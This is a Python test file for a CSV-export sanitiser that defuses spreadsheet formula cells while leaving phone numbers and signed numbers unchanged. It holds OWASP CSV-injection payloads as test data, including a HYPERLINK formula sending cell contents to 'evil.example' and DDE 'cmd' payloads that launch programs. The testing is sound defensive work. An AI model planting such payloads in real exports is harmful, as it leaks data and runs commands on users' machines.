"""Cells that a spreadsheet would run as a formula are defused in every CSV export (issue 24,
item 7); E.164 numbers and other signed plain numbers stay as they are, machine-readable.

The payloads are OWASP's CSV Injection examples (owasp.org/www-community/attacks/CSV_Injection)
and the prefix characters it lists: = + - @ tab and carriage return.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from robotrace.csvcells import safe_cell, safe_row

OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+1+cmd|' /C notepad'!'B1'",
    "-1-1",  # arithmetic, but not a number: defused too
    "+",
    "-",
]


@pytest.mark.parametrize("payload", OWASP_PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(payload):
    assert safe_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    ["+12025550143", "+1 202 555 0143", "-5", "-273", "12025550143", "Bravo Wholesale", "", "CCCC"],
)
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_values_that_are_not_text_pass_through_and_none_is_empty():
    assert safe_row([1, None, 2.5, "=1"]) == [1, "", 2.5, "'=1"]


# What a spreadsheet treats as a formula, written independently of the code under test: a
# cell whose first character is one of OWASP's, unless it is a sign followed by digits.
def _runs_as_formula(cell: str) -> bool:
    if cell[:1] in ("=", "@", "\t", "\r"):
        return True
    return cell[:1] in ("+", "-") and re.fullmatch(r"[0-9 ]*[0-9][0-9 ]*", cell[1:]) is None


@given(st.text())
def test_no_cell_comes_out_a_formula_and_only_those_change(text):
    out = safe_cell(text)
    assert not _runs_as_formula(out)
    assert out == ("'" + text if _runs_as_formula(text) else text)


@given(st.lists(st.text(), max_size=6))
def test_a_row_written_and_read_back_holds_the_defused_cells(cells):
    buffer = io.StringIO()
    csv.writer(buffer).writerow(safe_row(cells))
    [read] = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert read == [safe_cell(c) for c in cells] or (cells == [""] and read == [""])
